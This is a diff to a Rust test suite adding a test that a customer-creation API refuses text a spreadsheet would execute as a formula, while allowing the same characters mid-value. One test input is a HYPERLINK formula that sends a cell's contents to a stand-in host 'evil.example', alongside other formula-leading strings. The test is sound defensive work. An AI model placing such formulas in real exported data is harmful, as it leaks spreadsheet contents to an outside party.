@@ -26,6 +26,7 @@ on_both_backends!(
     import_reports_bad_rows_and_reruns_create_nothing,
     an_import_of_many_bad_rows_counts_them_all_and_lists_the_first_thousand,
     lists_mask_contacts_and_every_clear_read_is_in_the_access_log,
+    values_a_spreadsheet_would_run_as_formulas_are_refused,
     missing_and_bad_tokens_are_unauthenticated,
     every_rpc_checks_the_callers_role,
     concurrent_retries_of_one_create_make_one_customer,
@@ -973,6 +974,26 @@ async fn lists_mask_contacts_and_every_clear_read_is_in_the_access_log(app: Test
         .await
         .unwrap_err();
     assert!(violations(&bad).contains(&"customer_id".to_string()), "{bad:?}");
+}
+
+/// Text that a spreadsheet would run as a formula when exported is refused,
+/// naming each field, and nothing is stored.
+async fn values_a_spreadsheet_would_run_as_formulas_are_refused(app: TestApp) {
+    let mut req = new_customer("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", &uscc(90));
+    let c = req.customer.as_mut().unwrap();
+    c.region = "+1+1".into();
+    c.tags = vec!["ok".into(), "@SUM(1)".into()];
+    req.contacts[0].name = "-2+3".into();
+    let err = app.agent().create_customer(req).await.unwrap_err();
+    let named = violations(&err);
+    for field in ["customer.company_name", "customer.region", "customer.tags[1]", "contacts[0].name"] {
+        assert!(named.contains(&field.to_string()), "{field} in {named:?}");
+    }
+    assert!(err.message().contains("formula"), "{}", err.message());
+    assert_eq!(count_customers(&app).await, 0, "nothing stored");
+    // The same characters inside a value are fine.
+    let fine = new_customer("A=B 咨询 (上海) 有限公司", &uscc(91));
+    app.agent().create_customer(fine).await.unwrap();
 }
 
 async fn missing_and_bad_tokens_are_unauthenticated(app: TestApp) {
